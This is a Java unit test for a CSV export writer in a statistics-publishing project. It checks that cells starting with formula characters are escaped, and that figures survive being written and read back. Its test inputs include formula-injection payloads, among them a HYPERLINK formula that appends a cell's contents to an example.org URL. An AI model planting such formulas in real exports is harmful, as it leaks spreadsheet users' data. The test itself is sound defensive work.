package org.openscrutiny.documents;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.IntStream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.openscrutiny.domain.Area;
import org.openscrutiny.domain.AreaLevel;
import org.openscrutiny.domain.CalculationKind;
import org.openscrutiny.domain.Clearance;
import org.openscrutiny.domain.Figures;
import org.openscrutiny.domain.FilterGroup;
import org.openscrutiny.domain.Filters;
import org.openscrutiny.domain.Frequency;
import org.openscrutiny.domain.Observation;
import org.openscrutiny.domain.Period;
import org.openscrutiny.domain.Release;
import org.openscrutiny.domain.ReleaseDescription.Policy;
import org.openscrutiny.domain.ReleaseFigures;
import org.openscrutiny.domain.Series;
import org.openscrutiny.domain.SeriesKey;
import org.openscrutiny.domain.TimeIdentifier;
import org.openscrutiny.domain.Value;
import org.openscrutiny.editions.SampleMeasures;
import org.openscrutiny.editions.SampleReleases;

/// The download is what was cleared, digit by digit, and does nothing in a spreadsheet.
class DataCsvTest {
  private static final List<String> INDICATORS = List.of("looked-after-children", "contacts");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"https://example.org/?\"&A1)",
        "+1",
        "-1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=1+1,\"x\"\n=2+2"
      })
  void noTextStartsAsAFormula(String hostile) {
    Area area = new Area(AreaLevel.LOCAL_AUTHORITY, hostile, hostile);
    var key =
        new SeriesKey(
            INDICATORS.getFirst(), area, new Filters(Map.of(hostile, hostile)), Frequency.MONTH);
    var period = new Period(TimeIdentifier.OCTOBER, 2024);
    Value value = Value.of(new BigDecimal("-3.50"));
    var gap = new CalculationKind.Gap(CalculationKind.ComparedWith.ENGLAND, false);
    var figures =
        new Figures(
            List.of(
                new Figures.FileSeries(
                    hostile, new Series(key, List.of(new Observation(period, value))))),
            List.of(new Figures.Calculation(hostile, gap, key, period, value)),
            List.of(new Figures.Repeat(hostile, hostile, key, period, value)),
            List.of(),
            Set.of(new FilterGroup(hostile, hostile, hostile)));

    List<NamedCsvRecord> rows = written(figures);

    assertThat(rows).hasSize(3);
    for (NamedCsvRecord row : rows) {
      row.getFieldsAsMap()
          .forEach((column, cell) -> {
            if (!column.equals("value")) {
              assertThat(cell).as(column).doesNotContainPattern("\\A[=+\\-@\\t\\r\\n]");
            }
          });
      assertThat(row.getField("value")).isEqualTo("-3.50");
      assertThat(row.getField("area_name")).isEqualTo("'" + hostile);
    }
  }

  static IntStream seeds() {
    return IntStream.range(0, 100);
  }

  @ParameterizedTest
  @MethodSource("seeds")
  void whatIsWrittenReadsAsTheSameFigures(int seed) {
    var random = new Random(seed);
    var series = new ArrayList<Figures.FileSeries>();
    for (String indicator : INDICATORS) {
      for (Area area :
          List.of(SampleMeasures.SOUTHAMPTON, SampleMeasures.ENGLAND, SampleMeasures.NEIGHBOURS)) {
        for (Filters filters :
            List.of(Filters.NONE, new Filters(Map.of("age", "0, \"1\"; 2: 3", "sex", "All\nof")))) {
          var observations = new ArrayList<Observation>();
          for (int year = 2000; year < 2000 + random.nextInt(1, 6); year++) {
            observations.add(
                new Observation(new Period(TimeIdentifier.MARCH, year), value(random)));
          }
          var key = new SeriesKey(indicator, area, filters, Frequency.MONTH);
          series.add(new Figures.FileSeries("a.csv", new Series(key, observations)));
        }
      }
    }

    List<NamedCsvRecord> rows =
        written(new Figures(series, List.of(), List.of(), List.of(), Set.of()));

    var expected = new ArrayList<String>();
    for (Figures.FileSeries each : series) {
      SeriesKey key = each.series().key();
      for (Observation one : each.series().observations()) {
        String levels =
            key.filters().equals(Filters.NONE) ? "" : "age: 0, \"1\"; 2: 3; sex: All\nof";
        expected.add(
            "%s|%s|%s|%s|%s"
                .formatted(key.indicator(), key.area().code(), levels, one.period(), one.value()));
      }
    }
    assertThat(rows).extracting(DataCsvTest::read).containsExactlyElementsOf(expected);
  }

  private static String read(NamedCsvRecord row) {
    String symbol = row.getField("symbol");
    Value value =
        symbol.isEmpty()
            ? Value.of(new BigDecimal(row.getField("value")))
            : Value.ofSymbol(symbol).orElseThrow();
    Period period =
        Period.parse(row.getField("time_period"), row.getField("time_identifier")).orElseThrow();
    return "%s|%s|%s|%s|%s"
        .formatted(
            row.getField("indicator_id"),
            row.getField("area_code"),
            row.getField("filters"),
            period,
            value);
  }

  private static Value value(Random random) {
    List<String> symbols = List.of("c", "z", "x", "u", "low");
    int choice = random.nextInt(symbols.size() * 3);
    return choice < symbols.size()
        ? Value.ofSymbol(symbols.get(choice)).orElseThrow()
        : Value.of(
            BigDecimal.valueOf(random.nextLong(-1_000_000, 1_000_000_000_000L), random.nextInt(5)));
  }

  private static List<NamedCsvRecord> written(Figures figures) {
    var release =
        new Release(
            "aa",
            SampleReleases.description("in-care", LocalDateTime.of(2024, 7, 18, 9, 30)),
            Instant.EPOCH,
            List.of(),
            new Clearance(Policy.PROTECT, 5, 0, List.of()),
            List.of(),
            List.of());
    var csv = new ByteArrayOutputStream();
    try {
      new DataCsv(SampleMeasures.CATALOGUE).write(new ReleaseFigures(release, figures), csv);
      try (var reader =
          CsvReader.builder()
              .ofNamedCsvRecord(
                  new ByteArrayInputStream(csv.toByteArray()), StandardCharsets.UTF_8)) {
        return reader.stream().toList();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
